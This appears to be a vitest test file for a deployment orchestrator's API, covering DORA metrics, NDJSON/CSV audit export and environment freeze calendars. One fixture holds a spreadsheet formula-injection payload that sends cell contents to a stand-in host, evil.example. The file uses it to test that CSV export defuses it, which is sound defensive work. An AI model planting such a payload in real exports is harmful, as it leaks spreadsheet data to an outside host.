import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { describe, expect, it } from 'vitest';
import { newDeployment } from '#shared/deployments/record.ts';
import type { CommitTimes, DeploymentStore } from '#shared/ports.ts';
import { parseRegistry } from '#shared/registry/registry.ts';
import type { AuditEventType, Deployment, DeploymentStatus, Requester } from '#shared/types.ts';
import { expectValidResponse } from '#test/support/openapi.ts';
import { createTestStore } from '#test/support/store.ts';
import { createApi } from '../../functions/api/routes.ts';

const registry = parseRegistry({
  applications: {
    'hello-world': {
      source: { type: 'GITHUB', location: 'https://github.com/example-org/hello-world.git' },
      defaultRef: 'main',
      environments: {
        staging: {
          accountId: '111111111111',
          region: 'eu-west-1',
          deployRoleArn: 'arn:aws:iam::111111111111:role/crossdeploy/deploy',
          executionRoleArn: 'arn:aws:iam::111111111111:role/crossdeploy/cfn-exec',
          stackName: 'hello-world-staging',
          artifactsBucket: 'artifacts-111111111111-eu-west-1',
          allowedRequesters: { local: ['alice'] },
        },
      },
    },
  },
});

const alice: Requester = { type: 'local', user: 'alice' };
const mallory: Requester = { type: 'local', user: 'mallory' };
const NOW = new Date('2026-11-10T00:00:00.000Z');

/** Commit times known to the port (the local git adapter in local mode); c-unknown is not among them. */
class FixedCommitTimes implements CommitTimes {
  private readonly times: Record<string, string>;
  constructor(times: Record<string, string>) {
    this.times = times;
  }
  async lookup(_application: string, commits: string[]) {
    return new Map(commits.flatMap((c) => (this.times[c] ? [[c, this.times[c]] as [string, string]] : [])));
  }
}

async function harness(commitTimes?: CommitTimes) {
  const { store } = await createTestStore();
  const api = createApi({
    store,
    workflow: { start: async () => {} },
    logs: { read: async () => ({ items: [] }) },
    registry,
    clock: { now: () => NOW },
    newId: () => 'unused',
    ...(commitTimes ? { commitTimes } : {}),
  });
  return { store, api };
}

function get(path: string, query: Record<string, string>, headers: Record<string, string> = {}) {
  const rawQueryString = new URLSearchParams(query).toString();
  return {
    version: '2.0',
    routeKey: '$default',
    rawPath: path,
    rawQueryString,
    queryStringParameters: query,
    headers,
    isBase64Encoded: false,
    requestContext: { http: { method: 'GET', path, sourceIp: '127.0.0.1' }, requestId: 'r1' },
  } as unknown as APIGatewayProxyEventV2;
}

async function put(
  store: DeploymentStore,
  id: string,
  requestedAt: string,
  status: DeploymentStatus,
  options: {
    finishedAt?: string;
    commit?: string;
    commitTime?: string;
    dryRun?: boolean;
    reason?: string;
  } = {},
): Promise<Deployment> {
  const deployment: Deployment = {
    ...newDeployment({
      deploymentId: id,
      application: 'hello-world',
      environment: 'staging',
      ref: 'main',
      requester: alice,
      trigger: 'local',
      requestedAt,
      dryRun: options.dryRun ?? false,
      ...(options.reason ? { reason: options.reason } : {}),
    }),
    ...(options.commit
      ? {
          resolvedCommit: options.commit,
          buildOutput: {
            bucket: 'b',
            key: `k/${id}`,
            versionId: 'v1',
            sha256: 'a'.repeat(64),
            resolvedCommit: options.commit,
            ...(options.commitTime ? { commitTime: options.commitTime } : {}),
          },
        }
      : {}),
  };
  await store.createDeployment(deployment);
  if (status !== 'QUEUED') {
    await store.finishDeployment(id, status as 'SUCCEEDED', {
      finishedAt: options.finishedAt ?? requestedAt,
    });
  }
  return deployment;
}

/**
 * The hand-computed fixture (docs/metrics.md walks through the same numbers). Window [11-01, 11-08), 7 days.
 * Counted: d1 d2 d3 d4 d7 d8 (6). Not counted: d0 (before), d5 (dry run), d6 (REJECTED), d9 (after).
 * Frequency 3 successes / 7 days = 0.429. Failure rate 3 / 6 = 0.5.
 * Lead times: d1 09:00 -> 10:10 = 4200 s; d4 21:20 -> 09:20 = 43200 s; d7 08:00 -> 08:30 = 1800 s;
 *   median 4200, mean 16400.
 * Restores: d2 failed 11-02 10:05 (d3 is the same episode) -> d4 11-03 09:20 = 83700 s;
 *   d8 failed 11-07 22:10 -> d9 (requested after the window) 11-08 01:40 = 12600 s; median = mean = 48150.
 */
async function fixture(store: DeploymentStore) {
  await put(store, 'd0', '2026-10-31T23:00:00.000Z', 'FAILED', { finishedAt: '2026-10-31T23:05:00.000Z' });
  await put(store, 'd1', '2026-11-01T10:00:00.000Z', 'SUCCEEDED', {
    finishedAt: '2026-11-01T10:10:00.000Z',
    commit: 'c1',
  });
  await put(store, 'd2', '2026-11-02T10:00:00.000Z', 'FAILED', { finishedAt: '2026-11-02T10:05:00.000Z' });
  await put(store, 'd3', '2026-11-02T11:00:00.000Z', 'FAILED', { finishedAt: '2026-11-02T11:05:00.000Z' });
  await put(store, 'd4', '2026-11-03T09:00:00.000Z', 'SUCCEEDED', {
    finishedAt: '2026-11-03T09:20:00.000Z',
    commit: 'c2',
  });
  await put(store, 'd5', '2026-11-04T09:00:00.000Z', 'SUCCEEDED', {
    finishedAt: '2026-11-04T09:01:00.000Z',
    dryRun: true,
    commit: 'c2',
  });
  await put(store, 'd6', '2026-11-04T10:00:00.000Z', 'REJECTED');
  await put(store, 'd7', '2026-11-05T08:00:00.000Z', 'SUCCEEDED', {
    finishedAt: '2026-11-05T08:30:00.000Z',
    commit: 'c3',
  });
  await put(store, 'd8', '2026-11-07T22:00:00.000Z', 'FAILED', { finishedAt: '2026-11-07T22:10:00.000Z' });
  await put(store, 'd9', '2026-11-08T01:00:00.000Z', 'SUCCEEDED', {
    finishedAt: '2026-11-08T01:40:00.000Z',
    commit: 'c-unknown',
  });
}

const COMMITS = new FixedCommitTimes({
  c1: '2026-11-01T09:00:00.000Z',
  c2: '2026-11-02T21:20:00.000Z',
  c3: '2026-11-05T08:00:00.000Z',
});

const WINDOW = { application: 'hello-world', environment: 'staging', from: '2026-11-01', to: '2026-11-08' };

describe('GET /metrics', () => {
  it('matches the hand-computed fixture for the DORA four', async () => {
    const { store, api } = await harness(COMMITS);
    await fixture(store);
    const response = await api(get('/metrics', WINDOW), alice);
    const body = expectValidResponse('GET', '/metrics', response);
    expect(body).toEqual({
      application: 'hello-world',
      environment: 'staging',
      from: '2026-11-01T00:00:00.000Z',
      to: '2026-11-08T00:00:00.000Z',
      deployments: 6,
      deploymentFrequency: { succeeded: 3, days: 7, perDay: 0.429 },
      leadTime: { samples: 3, medianSeconds: 4200, meanSeconds: 16400 },
      changeFailureRate: { failed: 3, total: 6, rate: 0.5 },
      timeToRestore: { restored: 2, unrestored: 0, medianSeconds: 48150, meanSeconds: 48150 },
      daily: [
        { day: '2026-11-01', succeeded: 1, failed: 0 },
        { day: '2026-11-02', succeeded: 0, failed: 2 },
        { day: '2026-11-03', succeeded: 1, failed: 0 },
        { day: '2026-11-04', succeeded: 0, failed: 0 },
        { day: '2026-11-05', succeeded: 1, failed: 0 },
        { day: '2026-11-06', succeeded: 0, failed: 0 },
        { day: '2026-11-07', succeeded: 0, failed: 1 },
      ],
    });
  });

  it('counts a failure with no later success as unrestored', async () => {
    const { store, api } = await harness(COMMITS);
    await put(store, 'x1', '2026-11-07T22:00:00.000Z', 'FAILED', { finishedAt: '2026-11-07T22:10:00.000Z' });
    const body = JSON.parse(String((await api(get('/metrics', WINDOW), alice)).body));
    expect(body.timeToRestore).toEqual({
      restored: 0,
      unrestored: 1,
      medianSeconds: null,
      meanSeconds: null,
    });
    expect(body.changeFailureRate).toEqual({ failed: 1, total: 1, rate: 1 });
  });

  it('answers a window that ends in the future, with a failure last, without reading past now', async () => {
    const { store, api } = await harness(COMMITS);
    await put(store, 'x1', '2026-11-07T22:00:00.000Z', 'FAILED', { finishedAt: '2026-11-07T22:10:00.000Z' });
    const response = await api(get('/metrics', { ...WINDOW, to: '2026-12-31' }), alice);
    expect(response.statusCode).toBe(200);
    expect(JSON.parse(String(response.body)).timeToRestore.unrestored).toBe(1);
  });

  it('says lead time is unavailable where no commit times are known (the deployed orchestrator)', async () => {
    const { store, api } = await harness();
    await fixture(store);
    const body = JSON.parse(String((await api(get('/metrics', WINDOW), alice)).body));
    expect(body.leadTime).toMatchObject({ samples: 0, medianSeconds: null });
    expect(body.leadTime.unavailable).toMatch(/no commit times/);
    expect(body.deploymentFrequency.succeeded).toBe(3);
  });

  it('computes lead time from the commit time the build recorded, with no git lookup (the deployed orchestrator)', async () => {
    const { store, api } = await harness();
    await put(store, 'r1', '2026-11-01T10:00:00.000Z', 'SUCCEEDED', {
      finishedAt: '2026-11-01T10:10:00.000Z',
      commit: 'c1',
      commitTime: '2026-11-01T09:00:00.000Z',
    });
    await put(store, 'r2', '2026-11-03T09:00:00.000Z', 'SUCCEEDED', {
      finishedAt: '2026-11-03T09:20:00.000Z',
      commit: 'c2',
    });
    const body = JSON.parse(String((await api(get('/metrics', WINDOW), alice)).body));
    expect(body.leadTime).toEqual({ samples: 1, medianSeconds: 4200, meanSeconds: 4200 });
  });

  it('refuses a window that is not a date, is reversed or spans more than a year, as problem+json', async () => {
    const { api } = await harness();
    for (const bad of [
      { from: 'yesterday' },
      { from: '2026-11-08', to: '2026-11-01' },
      { from: '2024-01-01', to: '2026-01-01' },
      { to: '2026-11-01T00:00:00' },
    ]) {
      const response = await api(get('/metrics', { ...WINDOW, ...bad }), alice);
      expect(response.statusCode, JSON.stringify(bad)).toBe(400);
      expect(response.headers?.['content-type']).toBe('application/problem+json');
      expectValidResponse('GET', '/metrics', response);
    }
  });

  it('refuses a requester who may not read the environment', async () => {
    const { store, api } = await harness(COMMITS);
    await fixture(store);
    const response = await api(get('/metrics', WINDOW), mallory);
    expect(response.statusCode).toBe(403);
    expectValidResponse('GET', '/metrics', response);
  });
});

describe('GET /deployments as an audit export', () => {
  async function withEvents() {
    const h = await harness();
    await put(h.store, 'a', '2026-11-01T10:00:00.000Z', 'SUCCEEDED', {
      finishedAt: '2026-11-01T10:10:00.000Z',
      reason: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      commit: 'c1',
    });
    await put(h.store, 'b', '2026-11-01T10:01:00.000Z', 'FAILED', {
      finishedAt: '2026-11-01T10:04:00.000Z',
      reason: 'fix, "quoted"\nsecond line',
    });
    // Interleaved in time, and named so that alphabetical order of steps differs from time order.
    const events: [string, AuditEventType, string][] = [
      ['a', 'REQUESTED', '2026-11-01T10:00:00.000Z'],
      ['b', 'REQUESTED', '2026-11-01T10:01:00.000Z'],
      ['a', 'VALIDATED', '2026-11-01T10:02:00.000Z'],
      ['b', 'VALIDATED', '2026-11-01T10:02:30.000Z'],
      ['b', 'FAILED', '2026-11-01T10:04:00.000Z'],
      ['a', 'LOCK_RELEASED', '2026-11-01T10:10:00.000Z'],
      ['a', 'SUCCEEDED', '2026-11-01T10:10:00.000Z'],
    ];
    for (const [deploymentId, type, at] of events) {
      await h.store.appendEvent({ deploymentId, type, step: type, at, detail: { n: at } });
    }
    return { ...h, events };
  }

  it('answers NDJSON with every event of the window in time order', async () => {
    const { api, events } = await withEvents();
    const response = await api(get('/deployments', WINDOW, { accept: 'application/x-ndjson' }), alice);
    expect(response.statusCode).toBe(200);
    expect(response.headers?.['content-type']).toBe('application/x-ndjson');
    const lines = String(response.body)
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.map((l) => [l.deploymentId, l.event, l.at])).toEqual(events);
    // NDJSON is data, not a spreadsheet: the reason is exactly what the requester wrote.
    expect(lines[0].reason).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(lines[0].detail).toEqual({ n: '2026-11-01T10:00:00.000Z' });
  });

  it('answers CSV (a maintained library quotes it) and defuses a reason a spreadsheet would run', async () => {
    const { api } = await withEvents();
    const response = await api(get('/deployments', WINDOW, { accept: 'text/csv' }), alice);
    expect(response.statusCode).toBe(200);
    expect(response.headers?.['content-type']).toBe('text/csv; charset=utf-8');
    const csv = String(response.body);
    expect(csv.split('\n')[0]).toBe(
      '"at","event","deploymentId","application","environment","kind","status","requester","reason","ref","resolvedCommit","buildOutputSha256","requestedAt","finishedAt","detail"',
    );
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/,"=HYPERLINK/);
    expect(csv).toContain('"fix, ""quoted""\nsecond line"');
  });

  it('also exports through format=csv (a link), and keeps JSON history for JSON clients', async () => {
    const { api } = await withEvents();
    const csv = await api(get('/deployments', { ...WINDOW, format: 'csv' }), alice);
    expect(csv.headers?.['content-type']).toBe('text/csv; charset=utf-8');
    const history = await api(get('/deployments', WINDOW, { accept: 'application/json' }), alice);
    const body = expectValidResponse('GET', '/deployments', history) as { items: Deployment[] };
    expect(body.items.map((d) => d.deploymentId)).toEqual(['b', 'a']);
    const bad = await api(get('/deployments', { ...WINDOW, format: 'xlsx' }), alice);
    expect(bad.statusCode).toBe(400);
  });

  it('refuses the export to a requester who may not read the environment', async () => {
    const { api } = await withEvents();
    const response = await api(get('/deployments', WINDOW, { accept: 'text/csv' }), mallory);
    expect(response.statusCode).toBe(403);
    expect(String(response.body)).not.toContain('HYPERLINK');
  });
});

describe('GET /applications (what the console grid needs)', () => {
  const env = (account: string, extra: Record<string, unknown> = {}) => ({
    accountId: account,
    region: 'eu-west-1',
    deployRoleArn: `arn:aws:iam::${account}:role/crossdeploy/deploy`,
    executionRoleArn: `arn:aws:iam::${account}:role/crossdeploy/cfn-exec`,
    stackName: `hello-${account}`,
    artifactsBucket: `artifacts-${account}-eu-west-1`,
    allowedRequesters: { local: ['alice'] },
    ...extra,
  });
  const withCalendar = parseRegistry({
    applications: {
      'hello-world': {
        source: { type: 'GITHUB', location: 'https://github.com/example-org/hello-world.git' },
        schedules: [
          {
            name: 'weekday-promotion',
            from: 'staging',
            to: 'prod',
            schedule: 'cron(0 10 ? * MON-FRI *)',
            timezone: 'Europe/Berlin',
          },
        ],
        environments: {
          staging: env('111111111111'),
          prod: env('222222222222', {
            promoteFrom: ['staging'],
            freezeWindows: [{ name: 'november', start: '2026-11-09T00:00:00Z', end: '2026-11-11T00:00:00Z' }],
          }),
        },
      },
    },
  });

  it('says which environment is frozen now and when its next scheduled promotion runs', async () => {
    const { store } = await createTestStore();
    const api = createApi({
      store,
      workflow: { start: async () => {} },
      logs: { read: async () => ({ items: [] }) },
      registry: withCalendar,
      clock: { now: () => NOW },
      newId: () => 'unused',
    });
    const body = expectValidResponse('GET', '/applications', await api(get('/applications', {}), alice)) as {
      items: { environments: Record<string, unknown>[] }[];
    };
    const [staging, prod] = body.items[0]?.environments ?? [];
    expect(staging).not.toHaveProperty('frozen');
    expect(staging).not.toHaveProperty('nextPromotion');
    expect(prod?.frozen).toEqual({ window: 'november', endsAt: '2026-11-11T00:00:00.000Z' });
    // Tuesday 2026-11-10, 10:00 in Berlin (UTC+1 in November).
    expect(prod?.nextPromotion).toEqual({
      schedule: 'weekday-promotion',
      from: 'staging',
      at: '2026-11-10T09:00:00.000Z',
    });
    expect(JSON.stringify(body)).not.toContain('role/crossdeploy');
  });
});
